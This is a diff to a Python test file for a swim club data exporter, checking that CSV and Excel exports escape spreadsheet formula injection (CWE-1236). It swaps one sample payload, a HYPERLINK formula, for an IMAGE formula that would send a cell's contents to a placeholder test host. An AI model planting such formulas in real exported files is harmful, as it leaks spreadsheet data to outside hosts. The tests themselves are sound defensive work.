@@ -85,7 +85,7 @@ def test_the_invented_club_comes_through_to_the_byte(tmp_path: Path) -> None:
 @pytest.mark.parametrize(
     "text",
     [
-        '=HYPERLINK("http://x.test/?"&A2,"Ana")',
+        '=IMAGE("http://buoy.test/?"&A2,"tide")',
         "+1 (555) 0100",
         "-3 s vs May",
         "@coach",
@@ -122,7 +122,7 @@ def test_an_apostrophe_of_somebody_elses_file_stays(store: Store, tmp_path: Path
 
 
 def test_a_negative_number_stays_a_number(store: Store, tmp_path: Path) -> None:
-    item = ReviewItem(date=AS_OF, swimmer=ANA, reviewer="Bo", kind="measure", item="hand-depth", value=-0.5)
+    item = ReviewItem(date=AS_OF, swimmer=ANA, reviewer="Bo", kind="measure", item="body-angle", value=-0.5)
     add(store, [Swimmer(swimmer=ANA), item])
     export_club(store, tmp_path / "out", settings=DEFAULT)
     assert cell(tmp_path / "out", "reviews.csv", "value") == "-0.5"
@@ -227,11 +227,11 @@ def test_a_workbook_holds_no_formula(store: Store, tmp_path: Path) -> None:
     """OWASP, CSV injection; CWE-1236."""
     import openpyxl
 
-    add(store, [Swimmer(swimmer='=HYPERLINK("http://x.test/?"&A2,"Ana")', note="#N/A")])
+    add(store, [Swimmer(swimmer='=IMAGE("http://buoy.test/?"&A2,"tide")', note="#N/A")])
     export_club(store, tmp_path, settings=DEFAULT, formats=("xlsx",))
     sheet = openpyxl.load_workbook(tmp_path / "club.xlsx")["swimmers"]
     assert sheet["A2"].data_type == "s"
-    assert str(sheet["A2"].value).startswith("'=HYPERLINK")
+    assert str(sheet["A2"].value).startswith("'=IMAGE")
     assert sheet["G2"].data_type == "s"
 
 
